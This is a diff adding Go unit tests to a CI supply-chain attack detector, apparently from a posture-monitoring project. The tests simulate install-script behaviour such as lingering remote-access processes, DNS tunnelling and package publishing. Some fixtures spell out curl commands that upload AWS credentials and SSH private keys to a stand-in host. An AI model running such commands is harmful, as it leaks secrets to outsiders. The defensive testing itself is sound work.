@@ -1,7 +1,10 @@
 package signature
 
 import (
+	"maps"
 	"net/netip"
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/org/edamame-posture/pkg/event"
@@ -320,6 +323,107 @@ func TestLifecycleBeacon(t *testing.T) {
 			j := newJob(t)
 			tt.do(j, j.start(j.runner(), "/usr/bin/bash", []string{"bash", "-e", "/home/runner/work/_temp/a.sh"}))
 			j.want(tt.want...)
+		})
+	}
+}
+
+// installed starts node as the script of a package that is being installed.
+func (j *job) installed(bash event.Actor) event.Actor {
+	return j.start(j.install(bash, "npm", "postinstall", "x"), "/usr/local/bin/node", []string{"node", "x.js"})
+}
+
+func (j *job) exit(a event.Actor) {
+	j.apply(&Input{Event: &event.Event{Kind: event.Exit, Actor: a}})
+}
+
+// request is a request of HTTP on a connection of its own.
+func (j *job) request(a event.Actor, method, host, path string) {
+	j.apply(&Input{Host: host, Event: &event.Event{Kind: event.HTTP, Actor: a, Method: text(method), Name: text(host), Path: text(path),
+		Dst: netip.MustParseAddrPort("192.0.2.3:443"), Sock: 5000 + j.seq}})
+}
+
+func (j *job) ask(a event.Actor, name string, configured bool) {
+	j.apply(&Input{Resolver: configured, Event: &event.Event{Kind: event.DNS, Actor: a, Name: text(name), QType: 16, Dst: netip.MustParseAddrPort("198.51.100.53:53")}})
+}
+
+func (j *job) read(a event.Actor, class, path string) {
+	j.apply(&Input{Event: &event.Event{Kind: event.Open, Actor: a, Path: text(path), Class: text(class), Access: event.Read}})
+}
+
+func TestFamiliesThatAskForOwnersParentsResolversAndRequests(t *testing.T) {
+	long := strings.Repeat("a1", 22) + ".t.evil.test"
+	for name, tt := range map[string]struct {
+		do   func(j *job, bash event.Actor)
+		want []string
+	}{
+		"what a script left connects when it has ended": {func(j *job, b event.Actor) {
+			script := j.installed(b)
+			rat := j.start(script, "/usr/bin/python3.12", []string{"python3", "/home/runner/.cache/a.py"})
+			j.exit(script)
+			j.connect(rat, "github.com", "192.0.2.3:443")
+		}, []string{"d6-left-connects"}},
+		"while the script runs it is no more than a download": {func(j *job, b event.Actor) {
+			j.connect(j.start(j.installed(b), "/usr/bin/curl", []string{"curl", "-O", "https://github.com/x"}), "github.com", "192.0.2.3:443")
+		}, nil},
+		"a daemon that a step left": {func(j *job, b event.Actor) {
+			sh := j.start(b, "/bin/sh", []string{"sh", "-c", "server &"})
+			d := j.start(sh, "/usr/bin/server", []string{"server"})
+			j.exit(sh)
+			j.connect(d, "github.com", "192.0.2.3:443")
+		}, nil},
+		"a daemon of an install that speaks to this machine": {func(j *job, b event.Actor) {
+			script := j.installed(b)
+			d := j.start(script, "/usr/bin/watchman", []string{"watchman"})
+			j.exit(script)
+			j.connect(d, "", "127.0.0.1:4000")
+		}, nil},
+
+		"one long name, straight to a server": {func(j *job, b event.Actor) {
+			j.ask(j.start(b, "/usr/bin/node", []string{"node", "a.js"}), long, false)
+		}, []string{"d15-own-server"}},
+		"one long name, by the machine's resolver": {func(j *job, b event.Actor) {
+			j.ask(j.start(b, "/usr/bin/node", []string{"node", "a.js"}), long, true)
+		}, nil},
+		"a short name, straight to a server": {func(j *job, b event.Actor) {
+			j.ask(j.start(b, "/usr/bin/dig", []string{"dig", "@9.9.9.9", "example.com"}), "example.com", false)
+		}, nil},
+
+		"a script puts a package": {func(j *job, b event.Actor) {
+			j.request(j.installed(b), "PUT", "r.npmjs.org", "/@acme%2fwidgets")
+		}, []string{"d18-install-put"}},
+		"a script makes a repository": {func(j *job, b event.Actor) {
+			j.request(j.installed(b), "POST", "api.github.com", "/user/repos")
+		}, []string{"d18-install-put"}},
+		"a nested install is audited": {func(j *job, b event.Actor) {
+			j.request(j.installed(b), "POST", "r.npmjs.org", "/-/npm/v1/security/advisories/bulk")
+			j.request(j.installed(b), "PUT", "r.npmjs.org", "/-/package/x/dist-tags/latest")
+			j.request(j.installed(b), "GET", "r.npmjs.org", "/@acme%2fwidgets")
+		}, nil},
+		"a step publishes": {func(j *job, b event.Actor) {
+			j.request(j.start(b, "/usr/local/bin/node", []string{"node", "/usr/local/bin/npm", "publish"}), "PUT", "r.npmjs.org", "/@acme%2fwidgets")
+		}, nil},
+
+		"curl reads a cloud's key in a script": {func(j *job, b event.Actor) {
+			j.read(j.start(j.installed(b), "/usr/bin/curl", []string{"curl", "-T", "/home/runner/.aws/credentials", "https://up.test"}), "aws", "/home/runner/.aws/credentials")
+		}, []string{"d2-install-read"}},
+		"curl reads its own log-ins in a script": {func(j *job, b event.Actor) {
+			j.read(j.start(j.installed(b), "/usr/bin/curl", []string{"curl", "-n", "https://up.test"}), "netrc", "/home/runner/.netrc")
+		}, nil},
+		"curl reads keys of three kinds": {func(j *job, b event.Actor) {
+			c := j.start(b, "/usr/bin/curl", []string{"curl", "-F", "a=@/home/runner/.ssh/id_rsa", "https://up.test"})
+			j.read(c, "aws", "/home/runner/.aws/credentials")
+			j.read(c, "ssh", "/home/runner/.ssh/id_rsa")
+			j.read(c, "docker", "/home/runner/.docker/config.json")
+		}, []string{"d2-credential-classes"}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			j := newJob(t)
+			tt.do(j, j.start(j.runner(), "/usr/bin/bash", []string{"bash", "-e", "/home/runner/work/_temp/a.sh"}))
+			got := slices.Sorted(maps.Keys(j.hits))
+			slices.Sort(tt.want)
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("hits %q, want %q", got, tt.want)
+			}
 		})
 	}
 }
